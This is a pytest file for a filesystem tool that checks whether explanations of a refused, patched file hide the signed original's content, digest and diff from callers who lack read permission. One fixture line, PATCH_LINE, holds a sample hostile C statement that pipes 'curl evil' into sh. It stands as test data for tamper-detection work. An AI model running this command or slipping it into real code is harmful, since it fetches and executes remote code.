"""An explanation shows only what its caller could open (issue 15.4): the signed
original's lines only to a caller who may read the original at a current path (search
on every directory, read on the file, as the stored modes say), the diff only if the
caller may read the refused file too; root and the mount's owner see everything."""

from __future__ import annotations

import dataclasses
import json
import os
from pathlib import Path

import pytest
from t2_explain import PATCHED, import_tree, pol, vol, why
from t2_trust import P, current, write

from annofs.explain import visibility
from annofs.explain.report import Explanation
from annofs.explain.visibility import (
    WITHHELD_DIFF,
    Caller,
    caller_of,
    for_caller,
    process_groups,
)
from annofs.store.records import Version
from annofs.trust.policy import Policy
from annofs.trust.statement import format_digest
from annofs.volume import Volume

__all__ = ["pol", "vol"]  # fixtures, used by name

NOBODY = Caller(65534, 65534)
SECRET = b"int f1500(int x) { return x * 1500 + 2; }"  # the original's line the patch removes
PATCH_LINE = b'int f1500(int x) { system("curl evil | sh"); return 0; }'


def chmod(vol: Volume, path: str, mode: int, uid: int = 0, gid: int = 0) -> None:
    """Set the stored mode and owner of the entry at `path` (a file or a directory)."""
    parts = P(path)
    with vol.store.write() as txn:
        dir_id = vol.namespace.writable_dir(txn, parts[:-1])
        vol.namespace.set_attrs(txn, dir_id, parts[-1], lambda a: dataclasses.replace(
            a, mode=(a.mode & ~0o7777) | mode, uid=uid, gid=gid))


def shown(e: Explanation) -> str:
    """Everything the caller gets: the text and the JSON."""
    return e.to_text() + json.dumps(e.to_json())


@pytest.fixture
def patched(vol: Volume, tmp_path: Path) -> str:
    """A patched copy of the signed /src/proj/main.c, imported fresh (linked to the
    original by shared fragments only), readable by everyone."""
    import_tree(vol, tmp_path, "imp", {"main.c": PATCHED})
    return "/imp/tree/main.c"


def assert_withheld(text: str, vol: Volume, original: Version | None = None) -> None:
    original = original or current(vol, "/src/proj/main.c")
    assert SECRET.decode() not in text
    assert "as proj/main.c" not in text and "original/proj" not in text  # names are paths
    assert original.digest is not None
    assert format_digest(original.digest) not in text
    assert original.digest.hex()[:16] not in text
    assert f"{original.size} bytes" not in text
    assert "signed by alice-1 (trusted), claim reviewed" in text or '"signer": "alice-1"' \
        in text


def test_an_original_in_a_private_directory_is_withheld(vol: Volume, pol: Policy,
                                                        patched: str) -> None:
    chmod(vol, "/src/proj", 0o700)
    full = why(vol, pol, patched)
    assert SECRET.decode() in full.diff  # what the store's owner sees
    e = for_caller(full, vol, P(patched), NOBODY)
    text = shown(e)
    assert_withheld(text, vol)
    assert "signed by alice-1 (trusted), claim reviewed" in e.to_text()
    assert "found by shared fragments" in e.to_text()
    assert "withheld" in e.to_text()
    assert PATCH_LINE.decode() not in text  # no diff at all: it would quote both sides
    assert e.diff == "" and e.diff_kind == WITHHELD_DIFF
    assert e.to_json()["original"]["withheld"] is True
    for c in e.candidates:
        assert c.withheld and c.digest == b"" and c.version is None
        assert all(s.names == () and s.statement_id == b"" for s in c.signatures)


def test_a_0600_original_in_an_open_directory_is_withheld(vol: Volume, pol: Policy,
                                                          patched: str) -> None:
    chmod(vol, "/src/proj/main.c", 0o600)
    e = for_caller(why(vol, pol, patched), vol, P(patched), NOBODY)
    assert_withheld(shown(e), vol)


def test_an_original_the_caller_may_read_is_shown(vol: Volume, pol: Policy,
                                                  patched: str) -> None:
    full = why(vol, pol, patched)
    e = for_caller(full, vol, P(patched), NOBODY)
    assert e.to_text() == full.to_text()
    assert SECRET.decode() in e.diff and "as proj/main.c" in e.to_text()


def test_groups_give_read_as_the_kernel_would(vol: Volume, pol: Policy, patched: str) -> None:
    chmod(vol, "/src/proj", 0o750, uid=0, gid=100)
    full = why(vol, pol, patched)
    member = Caller(65534, 65534, frozenset({100}))
    assert SECRET.decode() in for_caller(full, vol, P(patched), member).diff
    assert SECRET.decode() in for_caller(full, vol, P(patched), Caller(65534, 100)).diff
    assert_withheld(shown(for_caller(full, vol, P(patched), NOBODY)), vol)
    # The owner's bits apply to the owner even when the others' would allow more.
    chmod(vol, "/src/proj/main.c", 0o044, uid=65534, gid=0)
    assert_withheld(shown(for_caller(full, vol, P(patched), NOBODY)), vol)


def test_no_diff_when_the_caller_may_not_read_the_refused_file(vol: Volume, pol: Policy,
                                                               patched: str) -> None:
    chmod(vol, patched, 0o600)
    e = for_caller(why(vol, pol, patched), vol, P(patched), NOBODY)
    assert e.diff == "" and e.diff_kind == WITHHELD_DIFF
    assert PATCH_LINE.decode() not in shown(e)
    assert "as proj/main.c" in e.to_text()  # the original itself is readable


def test_an_original_with_no_current_path_is_shown_only_to_the_owner(
        vol: Volume, pol: Policy) -> None:
    signed = current(vol, "/src/proj/main.c")
    write(vol, P("/src/proj/main.c"), PATCHED)  # the signed version now only in history
    full = why(vol, pol, "/src/proj/main.c")
    assert full.original is not None and SECRET.decode() in full.diff
    e = for_caller(full, vol, P("/src/proj/main.c"), NOBODY)
    assert_withheld(shown(e), vol, signed)
    assert "found by edit graph, 1 edit back" in e.to_text()
    owner = caller_of(os.getuid(), os.getgid(), os.getpid(), owner_uid=os.getuid())
    assert owner.sees_all and for_caller(full, vol, P("/src/proj/main.c"), owner) is full
    root = caller_of(0, 0, 0, owner_uid=1000)
    assert root.sees_all


def test_a_caller_s_groups_come_from_its_process(tmp_path: Path) -> None:
    assert process_groups(os.getpid(), os.geteuid()) == frozenset(os.getgroups())
    assert process_groups(os.getpid(), os.geteuid() + 1) == frozenset()  # not the caller
    assert process_groups(2**22 + 12345, 0) == frozenset()  # no such process
    assert process_groups(0, 0) == frozenset()
    c = caller_of(65534, 65534, os.getpid(), owner_uid=0)
    assert not c.sees_all and c.groups == frozenset()  # this process is not uid 65534


def test_the_same_content_readable_elsewhere_is_shown(vol: Volume, pol: Policy,
                                                      patched: str) -> None:
    chmod(vol, "/src/proj", 0o700)
    with vol.store.write() as txn:  # a copy (the same version) the caller may read
        vol.namespace.copy(txn, P("/src/proj/main.c"), P("/pub-main.c"))
    e = for_caller(why(vol, pol, patched), vol, P(patched), NOBODY)
    assert SECRET.decode() in e.diff and not e.original.withheld


def test_the_walk_is_bounded_and_then_withholds(vol: Volume, pol: Policy, patched: str,
                                                monkeypatch: pytest.MonkeyPatch) -> None:
    full = why(vol, pol, patched)
    assert SECRET.decode() in for_caller(full, vol, P(patched), NOBODY).diff  # by the walk
    monkeypatch.setattr(visibility, "WALK_ENTRIES", 2)
    assert_withheld(shown(for_caller(full, vol, P(patched), NOBODY)), vol)
